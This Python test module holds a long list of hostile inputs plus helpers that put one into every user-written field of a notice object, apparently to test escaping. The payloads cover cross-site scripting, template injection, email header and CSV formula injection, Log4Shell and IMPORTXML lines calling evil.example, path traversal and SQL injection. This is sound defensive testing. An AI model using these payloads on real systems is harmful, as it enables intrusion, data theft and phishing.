"""Texts that people might put where a name belongs, and tools to put one of them everywhere in a notice."""

from dataclasses import fields, is_dataclass, replace
from enum import Enum
from typing import Any

HOSTILE = (
    "<script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style><img src=x onerror=alert(1)>",
    "<img src=https://evil.example/pixel.gif>",
    '"><svg onload=alert(1)>',
    "' onmouseover='alert(1)",
    '" style="background:url(https://evil.example)',
    "<a href=https://evil.example>Review now</a>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<form action=https://evil.example><input name=password>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/a.css>",
    "<!-- comment",
    "--><script>alert(1)</script><!--",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<![endif]--><b>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;",
    "＜script＞alert(1)＜/script＞",
    "{{ 7 * 7 }}",
    "{% for x in range(9) %}x{% endfor %}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "${7*7} #{7*7} %(password)s {0.__class__}",
    "Finance\r\nBcc: everyone@contoso.example",
    "Finance\nContent-Type: text/html\n\n<b>hello</b>",
    "Finance\r\n\r\n.\r\nQUIT",
    "=?utf-8?q?=0D=0ABcc:_x@contoso.example?=",
    "Finance\x00\x01\x08\x1b[31m\x7f\x85",
    "\u202egnp.exe\u202c",
    "\u2066Finance\u2069\u2068x\u2069\u200e\u200f\u061c",
    "\u2068unclosed",
    "\u2069\u2069\u2069",
    "Fin\u200bance\ufeff\u2060\u00ad",
    "line\u2028separator\u2029paragraph\x0bvertical\x0cform",
    "\U000e0041\U000e0042hidden tags",
    "\ud800 lone surrogate",
    "Z\u0351\u036b\u0343\u036a\u0302a\u0301\u0302\u0303lgo",
    "فاطمة الزهراء 123 (60)",
    "שרה <b>כהן</b>",
    "👩🏽‍🚀👨‍👩‍👧‍👦🏴‍☠️🇫🇷",
    "javascript:alert(1)",
    "https://evil.example/login?next=<script>",
    '=HYPERLINK("https://evil.example","click")',
    "END:VEVENT\r\nBEGIN:VALARM\r\nACTION:DISPLAY",
    "a;b,c\\d\\n:e",
    "x" * 10_000,
    "ä, " * 5_000,
    "\n" * 1_000 + "late",
    " ",
    "\u202e",
    ".",
    "--",
    "-- \nYour administrator",
    "\\u003cscript\\u003e",
    "undefined",
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "'=1+1",
    '"=1+1",=2',
    '=IMPORTXML(CONCAT("https://evil.example/",A1),"//a")',
    "${jndi:ldap://evil.example/a}",
    '{"level":"ERROR","message":"forged"}',
    "fine\n2026-03-02T09:00:00Z ERROR forged line",
    "\x1b[2J\x1b]0;owned\x07",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "//evil.example/%2e%2e",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "%0d%0aSet-Cookie:%20a=b",
    "report.csv\r\nContent-Type: text/html",
    'report.csv"; filename="evil.exe',
    "'; DROP TABLE users; --",
    "' or 1 eq 1 or id eq '",
    "$skiptoken=x&$filter=x",
    "раypal.com",
    "<svg><script>alert&#40;1&#41;</script>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "javascript&colon;alert(1)",
    "<%= 7 * 7 %>",
    "[[constructor.constructor('alert(1)')()]]",
    "__proto__",
    "a\x00b",
    "\ufdd0\ufffe",
    "true",
    "null",
    "1e400",
    "NaN",
)
_CODED = {"why", "zone", "kind", "cause", "waiting", "unanswered"}  # words of ours, checked elsewhere


def infected(thing: Any, text: str) -> Any:
    """A copy of a notice in which every text a person could have written is `text`."""
    changes = {
        part.name: _infected(getattr(thing, part.name), text)
        for part in fields(thing)
        if part.name not in _CODED and part.metadata.get("text") != "link"
    }
    return replace(thing, **changes)


def links(thing: Any) -> set[str]:
    """Every address in a notice."""
    found: set[str] = set()
    for part in fields(thing):
        value = getattr(thing, part.name)
        if part.metadata.get("text") == "link" and value:
            found.add(value)
        for each in value if isinstance(value, tuple) else ():
            found |= links(each) if is_dataclass(each) else set()
    return found


def _infected(value: Any, text: str) -> Any:
    if isinstance(value, tuple):
        return tuple(_infected(each, text) for each in value)
    if is_dataclass(value):
        return infected(value, text)
    return text if isinstance(value, str) and not isinstance(value, Enum) else value
